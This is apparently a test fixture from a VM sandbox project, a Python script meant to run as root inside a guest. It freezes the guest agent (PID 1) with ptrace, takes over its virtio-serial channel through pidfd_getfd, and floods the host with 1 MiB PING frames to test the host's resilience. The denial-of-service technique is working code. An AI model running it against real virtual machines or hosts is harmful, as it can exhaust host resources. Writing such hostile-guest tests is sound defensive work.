"""The hostile guest of test_hostile_guest.py: run as root INSIDE a sandbox (stdlib only,
never imported by the tests — they send its source to the guest's python3).

It takes the guest agent's channel to the host away from PID 1 and floods the host with it:

1. freeze the agent: PTRACE_SEIZE + PTRACE_INTERRUPT on every thread of PID 1 (init ignores
   SIGSTOP sent from inside its own namespace, but a tracer can stop it), so nothing in the
   guest reads what the host sends any more;
2. steal the channel: find the virtio-serial port named ``arcbox.agent.0``, the fd PID 1
   holds on it (/proc/1/fd), and copy that fd with pidfd_open(1) + pidfd_getfd (the port
   itself can be opened by one process only);
3. flood: valid 1 MiB PING frames, written forever, never reading a byte. Each asks the
   host for a 1 MiB PONG that nobody will ever take.

Progress goes to the serial console (/dev/ttyS0, which the host keeps in the sandbox's
console.log): the agent is frozen, so nothing could come back through the channel. Lines
start with ``ATTACK:``; the test waits for the one saying ``flooding``.
"""

import ctypes
import os
import select
import struct
import sys
import time
import traceback

PORT_NAME = "arcbox.agent.0"
VPORTS = "/sys/class/virtio-ports"
PAYLOAD = 1 << 20  # the protocol's largest payload

# The wire protocol's frame header (see arcbox_vm/agent/protocol.py): magic "AV", type,
# flags, channel, payload length, big-endian. PING on channel 0 is echoed back as a PONG.
HEADER = struct.Struct(">2sBBII")
MAGIC = b"AV"
PING = 0x03

# pidfd_open and pidfd_getfd have the same numbers on every architecture (424+ are unified)
SYS_PIDFD_OPEN = 434
SYS_PIDFD_GETFD = 438
PTRACE_SEIZE = 0x4206
PTRACE_INTERRUPT = 0x4207
WALL = 0x40000000  # __WALL: wait for any kind of traced child

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]

console = open("/dev/ttyS0", "w", buffering=1)  # noqa: SIM115 - open for the whole run


def say(msg):
    console.write(f"ATTACK: {msg}\n")


def fail(what):
    err = ctypes.get_errno()
    say(f"FAILED: {what}: {os.strerror(err)}")
    sys.exit(1)


def agent_port():
    for dev in sorted(os.listdir(VPORTS)):
        try:
            with open(os.path.join(VPORTS, dev, "name")) as f:
                if f.read().strip() == PORT_NAME:
                    return "/dev/" + dev
        except OSError:
            continue
    say(f"FAILED: no virtio port named {PORT_NAME}")
    sys.exit(1)


def freeze_pid1():
    tids = sorted(int(t) for t in os.listdir("/proc/1/task"))
    for tid in tids:
        if libc.ptrace(PTRACE_SEIZE, tid, None, None) < 0:
            fail(f"PTRACE_SEIZE of pid 1 (thread {tid})")
        if libc.ptrace(PTRACE_INTERRUPT, tid, None, None) < 0:
            fail(f"PTRACE_INTERRUPT of pid 1 (thread {tid})")
        _, status = os.waitpid(tid, WALL)
        if not os.WIFSTOPPED(status):
            say(f"FAILED: thread {tid} of pid 1 did not stop (status {status:#x})")
            sys.exit(1)
    return len(tids)


def steal_fd(path):
    for name in os.listdir("/proc/1/fd"):
        try:
            if os.readlink("/proc/1/fd/" + name) == path:
                target = int(name)
                break
        except OSError:
            continue
    else:
        say(f"FAILED: pid 1 holds no fd on {path}")
        sys.exit(1)
    pidfd = libc.syscall(SYS_PIDFD_OPEN, 1, 0)
    if pidfd < 0:
        fail("pidfd_open(1)")
    fd = libc.syscall(SYS_PIDFD_GETFD, pidfd, target, 0)
    if fd < 0:
        fail(f"pidfd_getfd(pid 1, fd {target})")
    return target, fd


def flood(fd):
    frame = HEADER.pack(MAGIC, PING, 0, 0, PAYLOAD) + b"\xa5" * PAYLOAD
    poller = select.poll()
    poller.register(fd, select.POLLOUT)
    frames = 0
    last = time.monotonic()
    while True:
        view = memoryview(frame)
        while view:
            try:
                view = view[os.write(fd, view):]
            except BlockingIOError:
                events = poller.poll(1000)
                if any(ev & (select.POLLHUP | select.POLLERR) for _, ev in events):
                    time.sleep(0.2)  # the host side is not connected now: keep trying
            except OSError as exc:
                say(f"write: {exc}; retrying")
                time.sleep(0.5)
        frames += 1
        now = time.monotonic()
        if now - last >= 2:
            say(f"sent {frames} frames")
            last = now


def main():
    port = agent_port()
    threads = freeze_pid1()
    target, fd = steal_fd(port)
    say(f"stole fd {fd} (pid 1's fd {target} on {port}), froze pid 1 ({threads} thread(s)), flooding")
    flood(fd)


try:
    main()
except SystemExit:
    raise
except BaseException:  # noqa: BLE001 - every failure is reported on the console
    say("FAILED: " + traceback.format_exc().replace("\n", " | "))
    sys.exit(1)
